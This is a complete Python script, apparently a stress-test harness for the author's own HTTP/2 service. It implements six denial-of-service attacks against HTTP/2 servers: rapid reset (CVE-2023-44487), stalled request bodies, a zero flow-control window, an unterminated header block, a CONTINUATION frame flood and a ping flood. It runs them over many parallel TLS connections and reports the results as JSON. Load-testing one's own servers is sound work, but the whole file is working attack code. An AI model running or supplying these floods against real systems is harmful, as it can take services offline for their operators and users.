"""Clients that abuse HTTP/2, for as long as they are told to. Says what became of them, as JSON on stdout.

attack.py MODE CA HOST PORT CONNECTIONS SECONDS

reset    opens streams and resets them at once (CVE-2023-44487)
streams  opens as many streams as it can, each with a body that never ends
window   asks and never lets the server send a byte of the answer
head     begins a head and never ends it (CONTINUATION)
flood    sends CONTINUATION frames without end
ping     sends pings and reads nothing
"""

import json
import socket
import ssl
import sys
import threading
import time

from hpack import Encoder
from hyperframe.frame import ContinuationFrame, DataFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# `:path` is a route that needs a token and reads a body; the last header makes the head large.
POST = [(":method", "POST"), (":scheme", "https"), (":authority", "x"), (":path", "/hooks/nobody")]
GET = [(":method", "GET"), (":scheme", "https"), (":authority", "x"), (":path", "/v1/functions")]


def head(stream, block, *flags):
    frame = HeadersFrame(stream, block)
    for flag in flags:
        frame.flags.add(flag)
    return frame.serialize()


def dribble(sock, end, piece, pause):
    while time.monotonic() < end:
        sock.sendall(piece)
        time.sleep(pause)


def reset(sock, end, encoder):
    number = 1
    while time.monotonic() < end and number < 2**31 - 200:
        batch = b""
        for _ in range(100):
            batch += head(number, encoder.encode(GET), "END_HEADERS", "END_STREAM")
            batch += RstStreamFrame(number, 8).serialize()
            number += 2
        sock.sendall(batch)


def streams(sock, end, encoder):
    for number in range(1, 201, 2):
        sock.sendall(head(number, encoder.encode(POST), "END_HEADERS"))
    while time.monotonic() < end:
        for number in range(1, 201, 2):
            sock.sendall(DataFrame(number, b"x").serialize())
        time.sleep(1)


def window(sock, end, encoder):
    for number in range(1, 201, 2):
        sock.sendall(head(number, encoder.encode(GET), "END_HEADERS", "END_STREAM"))
    dribble(sock, end, PingFrame(0, b"12345678").serialize(), 1)


def begin(sock, end, encoder):
    sock.sendall(head(1, encoder.encode(GET), "END_STREAM"))
    while time.monotonic() < end:
        time.sleep(0.2)
        sock.sendall(b"")
        if sock.recv(4096) == b"":
            raise ConnectionResetError


def flood(sock, end, encoder):
    sock.sendall(head(1, encoder.encode(GET), "END_STREAM"))
    block = encoder.encode([("x-flood", "y" * 8000)])
    dribble(sock, end, ContinuationFrame(1, block).serialize(), 0)


def ping(sock, end, _):
    dribble(sock, end, PingFrame(0, b"12345678").serialize() * 1000, 0)


MODES = {"reset": reset, "streams": streams, "window": window, "head": begin, "flood": flood, "ping": ping}


def run(mode, ca, host, port, end, told):
    context = ssl.create_default_context(cafile=ca)
    context.set_alpn_protocols(["h2"])
    try:
        raw = socket.create_connection((host, port), timeout=10)
        sock = context.wrap_socket(raw, server_hostname=host)
        told["connected"] += 1
        sock.settimeout(15)
        settings = SettingsFrame(0)
        if mode == "window":
            settings.settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 0}
        sock.sendall(PREFACE + settings.serialize())
        MODES[mode](sock, end, Encoder())
        told["lasted"] += 1
    except OSError:
        told["cut"] += 1
    except BaseException:
        told["broken"] += 1
        raise


def main():
    mode, ca, host, port, connections, seconds = sys.argv[1:]
    told = {"connected": 0, "lasted": 0, "cut": 0, "broken": 0}
    end = time.monotonic() + float(seconds)
    arguments = (mode, ca, host, int(port), end, told)
    threads = [threading.Thread(target=run, args=arguments, daemon=True) for _ in range(int(connections))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(max(0, end + 20 - time.monotonic()))
    print(json.dumps(told))


main()
